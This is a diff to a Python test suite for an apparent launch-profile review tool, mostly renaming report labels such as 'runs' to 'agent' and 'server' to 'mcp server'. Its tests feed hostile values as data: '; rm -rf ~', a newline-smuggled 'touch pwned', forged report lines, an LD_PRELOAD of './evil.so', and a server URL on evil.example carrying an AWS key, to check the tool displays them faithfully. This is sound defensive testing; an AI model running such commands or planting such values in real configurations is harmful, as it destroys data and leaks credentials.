@@ -48,7 +48,7 @@ def test_what_cannot_be_seen_is_written_out(clone: Clone, argument: str, seen: s
     clone.write(profile({"command": "./tool", "args": ["-c", argument, "end"]}))
     quoted = seen if argument.isalnum() else f"'{seen}'" if argument and "'" not in argument else seen
     quoted = f"'{seen}'" if argument == "it's" else quoted
-    assert report(clone)[1] == f"  runs         {clone.root}/tool -c {quoted} end"
+    assert report(clone)[3] == f"  agent        {clone.root}/tool -c {quoted} end"
 
 
 def test_nothing_passes_for_a_line_of_the_report(clone: Clone) -> None:
@@ -58,19 +58,19 @@ def test_nothing_passes_for_a_line_of_the_report(clone: Clone) -> None:
     clone.write(profile({"command": "./tool", "args": [forged, padded]}, mcp_servers={"tools": server}))
     lines = report(clone)
     assert [line.split()[0] for line in lines if line[:2] == "  " != line[2:4]] == [
-        "runs",
         "directory",
-        "server",
         "permissions",
+        "agent",
+        "mcp",
     ]
-    assert "'x [152 spaces] runs  /bin/true'" in lines[1]
-    assert r"'x\n  runs  /bin/true\n  permissions  ask'" in lines[1]
+    assert "'x [152 spaces] runs  /bin/true'" in lines[3]
+    assert r"'x\n  runs  /bin/true\n  permissions  ask'" in lines[3]
 
 
 def test_what_is_too_long_to_show_is_counted(clone: Clone) -> None:
     clone.write(profile({"command": "./tool", "args": ["a" * 50_000, "; rm -rf ~"]}))
     lines = report(clone)
-    (line,) = [line for line in lines if line.startswith("  runs")]
+    (line,) = [line for line in lines if line.startswith("  agent")]
     assert len(line) < 20_100
     command = f"{clone.root}/tool {'a' * 50_000} '; rm -rf ~'"
     assert line.endswith(f"aaa … and {len(command) - 20_000:,} more characters")
@@ -86,9 +86,9 @@ def test_the_end_of_a_long_command_is_shown_and_what_comes_after_it(clone: Clone
     }
     clone.write(profile(GOOD, mcp_servers={"s": server}))
     lines = report(clone)
-    (place,) = [place for place, line in enumerate(lines) if line.startswith("  server")]
+    (place,) = [place for place, line in enumerate(lines) if line.startswith("  mcp server")]
     assert lines[place].endswith(r"xxx\ntouch pwned'")
-    here = f"in {clone.root}, the session's directory"
+    here = f"directory {clone.root} (the session's)"
     assert [line.strip() for line in lines[place + 1 : place + 4]] == ['sets A: "b"', here, "started by the agent"]
     assert not any("look twice" in line for line in lines)
 
@@ -102,15 +102,15 @@ def test_a_further_row_of_a_long_text_is_marked_on_a_terminal(clone: Clone) -> N
         terminal.until(yes_or_no("Trust this profile?"))
         rows = terminal.all
     assert sum(row.startswith("    | ") for row in rows) > 4
-    assert [row.split()[0] for row in rows if row[:2] == "  " != row[2:4]] == ["runs", "directory", "permissions"]
+    assert [row.split()[0] for row in rows if row[:2] == "  " != row[2:4]] == ["directory", "permissions", "agent"]
 
 
 def test_a_server_that_cannot_start_yet_is_shown_with_its_secrets(clone: Clone) -> None:
     helper = {"command": "./later", "args": ["steal"], "env": {"T": "${secret:github}"}, "required": False}
     clone.write(profile(GOOD, mcp_servers={"helper": helper}))
     said = clone.refuses(why=NEW)
-    here = f"in {clone.root}, the session's directory"
-    assert f'server helper: ./later steal not installed sets T: "${{secret:github}}" {here} not required' in said
+    here = f"directory {clone.root} (the session's)"
+    assert f'mcp server helper: ./later steal not installed sets T: "${{secret:github}}" {here} not required' in said
     assert "secrets github" in said
 
 
@@ -122,11 +122,11 @@ def test_what_of_the_environment_is_passed_on_is_shown(clone: Clone) -> None:
     }
     clone.write(profile({**GOOD, "inherit_env": ["HOME"]}, mcp_servers=servers))
     said = clone.refuses(why=NEW)
-    tool, here = f"{clone.root}/tool", f"in {clone.root}, the session's directory"
-    assert "gets from your environment: HOME directory " in said
-    assert f"server some: {tool} gets from your environment: AWS_*, SSH_AUTH_SOCK" in said
-    assert f"server all: {tool} gets your whole environment" in said
-    assert f"server none: {tool} {here} permissions" in said
+    tool, here = f"{clone.root}/tool", f"directory {clone.root} (the session's)"
+    assert "gets from your environment: HOME mcp server " in said
+    assert f"mcp server some: {tool} gets from your environment: AWS_*, SSH_AUTH_SOCK" in said
+    assert f"mcp server all: {tool} gets your whole environment" in said
+    assert f"mcp server none: {tool} {here}" in said
 
 
 def test_what_may_be_another_thing_tomorrow_is_shown_as_it_is_written(clone: Clone) -> None:
@@ -138,11 +138,11 @@ def test_what_may_be_another_thing_tomorrow_is_shown_as_it_is_written(clone: Clo
         )
     )
     said = clone.refuses(why=NEW, TOOL="/bin/true")
-    assert "runs /bin/true '${env:MORE:-x}' from ${env:TOOL:-./evil}" in said
+    assert "agent /bin/true '${env:MORE:-x}' from ${env:TOOL:-./evil}" in said
     assert f"directory {clone.root}, from ${{env:WHERE:-.}}" in said
     path = 'sets PATH, which can make programs run: "${project}/bin:/bin"'
-    assert f"server s: {clone.root}/tool from ${{cwd}}/tool {path}" in said
-    assert f"in {clone.root}, from ${{cwd}}" in said
+    assert f"mcp server s: {clone.root}/tool from ${{cwd}}/tool {path}" in said
+    assert f"directory {clone.root}, from ${{cwd}}" in said
     assert "reads from your environment: TOOL, MORE, WHERE" in said
 
 
@@ -181,10 +181,10 @@ def test_values_urls_grants_and_references_are_shown_as_they_are_written(clone: 
     said = clone.refuses(why=NEW, AWS_KEY="akia-hunter2", ACP_LAUNCH_SECRET_BANK="hunter2-hunter2")
     assert "hunter2" not in said
     for shown in (
-        f"runs {clone.root}/tool '${{env:AWS_KEY}}'",
+        f"agent {clone.root}/tool '${{env:AWS_KEY}}'",
         "also /",
         'sets LD_PRELOAD, which can make programs run: "./evil.so" sets K: "${env:AWS_KEY}"',
-        'server web: http https://evil.example/${env:AWS_KEY} sends X: "${secret:bank}"',
+        'mcp server web: http https://evil.example/${env:AWS_KEY} sends X: "${secret:bank}"',
         "secrets bank",
         "reads from your environment: AWS_KEY",
         "permissions allow",
@@ -276,9 +276,9 @@ def test_what_cannot_be_resolved_here_is_shown_as_it_is_written(clone: Clone) ->
         )
     )
     said = clone.refuses(why=NEW)
-    assert r"runs no-such-program-anywhere 'x\ny' not installed" in said
+    assert r"agent no-such-program-anywhere 'x\ny' not installed" in said
     assert "directory nowhere, which does not exist yet" in said
-    assert f"server there: {clone.root}/tool" in said
+    assert f"mcp server there: {clone.root}/tool" in said
 
 
 def test_a_change_has_its_colours_on_a_terminal_and_no_others(clone: Clone) -> None:
@@ -366,7 +366,7 @@ def test_what_runs_cannot_be_hidden_by_looking_like_a_credential(clone: Clone, h
     clone.accepts()
     clone.write(profile({"command": "sh", "args": ["-c", f"TOKEN={hidden}"]}))
     said = clone.refuses(why=CHANGED)
-    assert f"runs {shutil.which('sh')} -c 'TOKEN={hidden}'" in said
+    assert f"agent {shutil.which('sh')} -c 'TOKEN={hidden}'" in said
     assert f'+ agent.args[1]: "TOKEN={hidden}"' in said
 
 
@@ -412,14 +412,14 @@ def test_the_directory_that_results_is_shown_and_where_it_comes_from(clone: Clon
     said = clone.refuses(why=NEW, HOME=str(tmp_path))
     tool = f"{clone.root}/tool"
     for shown in (
-        f"server here: {tool} in {clone.root}, the session's directory",
-        f"server there: {tool} in {tmp_path}, from ${{home}}",
-        f"server below: {tool} in {clone.root}/.acp-launch",
-        f"server gone: {tool} in nowhere, which does not exist yet",
-        f"server theirs: {tool} in {clone.root}, the session's directory started by the agent",
+        f"mcp server here: {tool} directory {clone.root} (the session's)",
+        f"mcp server there: {tool} directory {tmp_path}, from ${{home}}",
+        f"mcp server below: {tool} directory {clone.root}/.acp-launch",
+        f"mcp server gone: {tool} directory nowhere, which does not exist yet",
+        f"mcp server theirs: {tool} directory {clone.root} (the session's) started by the agent",
     ):
         assert shown in said
     elsewhere = tmp_path / "elsewhere"
     elsewhere.mkdir()
     said = clone.refuses("run", str(clone.file()), "hello", why=NEW, cwd=elsewhere, HOME=str(tmp_path))
-    assert f"server here: {tool} in an empty directory of its own" in said
+    assert f"mcp server here: {tool} directory (a private, empty one)" in said
